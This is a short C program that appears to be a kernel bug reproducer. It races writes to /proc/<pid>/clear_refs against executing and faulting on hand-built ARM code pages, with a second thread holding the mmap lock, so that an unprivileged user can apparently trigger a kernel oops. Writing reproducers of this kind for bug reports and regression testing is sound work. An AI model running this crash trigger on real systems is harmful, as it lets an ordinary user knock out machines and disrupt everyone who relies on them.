/* SPDX-License-Identifier: GPL-2.0-only */
// An ordinary user oopses the kernel? The abort handler reads the aborted instruction by the data side, where the
// page's entry is "old" (hardware entry 0), while the I-TLB has it still, and the mmap lock is held for writing.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <signal.h>
#include <setjmp.h>
#include <pthread.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <sys/time.h>
static volatile int go, done; static volatile unsigned long rounds;
static sigjmp_buf jb;
static void h(int s){ siglongjmp(jb,1); }
static char *big; static int size=24<<20;
// T2: holds the mmap lock for writing most of the time
static void *locker(void*a){ nice(0); while(!done){ char*p=mmap(0,8<<20,PROT_READ|PROT_WRITE,MAP_PRIVATE|MAP_ANONYMOUS,-1,0); if(p==MAP_FAILED){perror("mmap");break;} for(int i=0;i<8<<20;i+=4096) p[i]=1; 
   for(int k=0;k<40;k++){ mprotect(p,8<<20,PROT_READ); mprotect(p,8<<20,PROT_READ|PROT_WRITE);} munmap(p,8<<20);} return 0; }
int main(int argc,char**argv){
  int mode=argc>1?atoi(argv[1]):0, secs=argc>2?atoi(argv[2]):20; // mode 0: threads of one process; 1: clear_refs by another process
  signal(SIGSEGV,h);
  char*code=mmap(0,16*4096,PROT_READ|PROT_WRITE|PROT_EXEC,MAP_PRIVATE|MAP_ANONYMOUS,-1,0);
  for(int i=0;i<16;i++){ unsigned*c=(void*)(code+i*4096); c[0]=0xe12fff1e; /* bx lr */ c[8]=0xe5c00000; /* strb r0,[r0] */ c[9]=0xe12fff1e; }
  __builtin___clear_cache(code,code+16*4096);
  char name[40]; snprintf(name,40,"/proc/%d/clear_refs",getpid());
  int fd=open(name,O_WRONLY); if(fd<0){perror(name);return 1;}
  pid_t k=0; if(mode){ k=fork(); if(!k){ struct sched_param p={0}; for(;;){ write(fd,"1",1); sched_yield(); } } }
  pthread_t t; pthread_create(&t,0,locker,0);
  time_t end=time(0)+secs; int i=0;
  while(time(0)<end){ 
    char*c=code+(i++&15)*4096;
    if(!mode) write(fd,"1",1);
    for(int z=0;z<20;z++) { ((void(*)(void))c)(); // into the I-TLB, made young
    if(!mode) write(fd,"1",1); 
    sched_yield();
    if(!sigsetjmp(jb,1)) ((void(*)(int))(c+32))(8); }
    rounds++;
  }
  done=1; printf("rounds %lu\n",rounds); if(k){kill(k,9);} return 0; }
